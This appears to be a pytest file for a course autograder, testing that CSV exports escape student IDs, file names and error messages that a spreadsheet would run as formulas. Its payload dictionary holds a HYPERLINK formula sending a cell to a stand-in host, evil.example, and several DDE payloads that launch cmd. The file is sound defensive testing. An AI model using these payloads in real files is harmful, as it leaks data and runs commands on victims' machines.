"""What a submission can make the instructor's own tools do.

Nothing here runs student code. The hostile part is a name: a student's folder name, a
file name or an error message that a spreadsheet opening a scores CSV would run as a
formula. docs/security.md ("The instructor's tools") maps each threat to a test here.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest

from autograder import ROOT, exports
from autograder.gradebook import StudentScores
from dlcheck.results import SubmissionReport, TestResult
from dlcheck.text import Text

# -- CSV formula injection ------------------------------------------------------------------

#: Cells a spreadsheet would run as a formula (OWASP's list: = + - @, tab, carriage return).
FORMULAS = {
    "equals-hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"grades")',
    "plus-dde": "+1+cmd|' /C calc'!A0",
    "minus-dde": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-equals": "\t=1+1",
    "carriage-return-equals": "\r=1+1",
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _course_row(student: str, score: float = 1.0) -> str:
    return exports.course_csv([StudentScores(student, {"logistic_regression": score}, {"logistic_regression": 10.0},
                                             "namespaces")])


def _reports_row(submission: str = "alice.ipynb", error: str | None = None, score: float = 1.0) -> str:
    tests = [TestResult("test_sigmoid", "sigmoid", score, 1.0, score == 1.0, Text("ok", "ok"))]
    return exports.reports_csv([SubmissionReport(submission, "week2/logistic_regression", tests, error=error,
                                                 isolation="namespaces")])


WHERE = {
    "student-id": lambda payload: _cells(_course_row(payload))[1][0],
    "file-name": lambda payload: _cells(_reports_row(submission=payload))[1][0],
    "error-message": lambda payload: _cells(_reports_row(error=payload))[1][5],
}


@pytest.mark.parametrize("where", list(WHERE.values()), ids=list(WHERE))
@pytest.mark.parametrize("payload", list(FORMULAS.values()), ids=list(FORMULAS))
def test_csv_cell_never_starts_a_formula(payload, where):
    """Is a student id, file name or error message that a spreadsheet would run as a formula
    written with a leading apostrophe, so it is read as text (a carriage return as a line
    feed, see below)?"""
    assert where(payload) == "'" + payload.replace("\r", "\n")


@pytest.mark.parametrize("name", ["alice\r=1+1", "alice\r\n=1+1", "alice\n=1+1"], ids=["cr", "crlf", "lf"])
def test_csv_line_break_in_a_cell_starts_no_row(name):
    """Can a line break inside a student id end the row, so that what follows it starts a
    row of its own with a formula?"""
    cells = _cells(_course_row(name))
    assert [row[0] for row in cells] == ["student", "alice\n=1+1"]


@pytest.mark.parametrize("score", [-1.0, -0.5, 0.0, 2.5], ids=["-1", "-0.5", "0", "2.5"])
def test_csv_numbers_stay_numbers(score):
    """Is a score, negative ones included (a manual -1), still written as a plain number?"""
    assert _cells(_course_row("alice", score))[1][1:3] == [f"{score:g}", f"{score:g}"]
    assert _cells(_reports_row(score=score))[1][2] == f"{score:g}"


def test_autograde_grade_csv_neutralizes_a_file_name(tmp_path):
    """Does `autograde grade --format csv` write a file named like a formula as text?"""
    (tmp_path / "=1+1.ipynb").write_text("{}")
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "--dev-secret", "--format", "csv", "=1+1.ipynb"],
                          capture_output=True, text=True, cwd=tmp_path, timeout=300)
    assert proc.returncode == 1, proc.stderr
    assert _cells(proc.stdout)[1][0] == "'=1+1.ipynb"


def test_every_csv_is_written_by_the_one_function_that_neutralizes():
    """Does any module write CSV other than through autograder.exports (whose one writer
    neutralizes formulas)?"""
    writers = [p.relative_to(ROOT) for folder in ("autograder", "dlcheck", "dldata", "examples", "benchmarks")
               for p in (ROOT / folder).rglob("*.py") if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]
    assert writers == [Path("autograder/exports.py")]
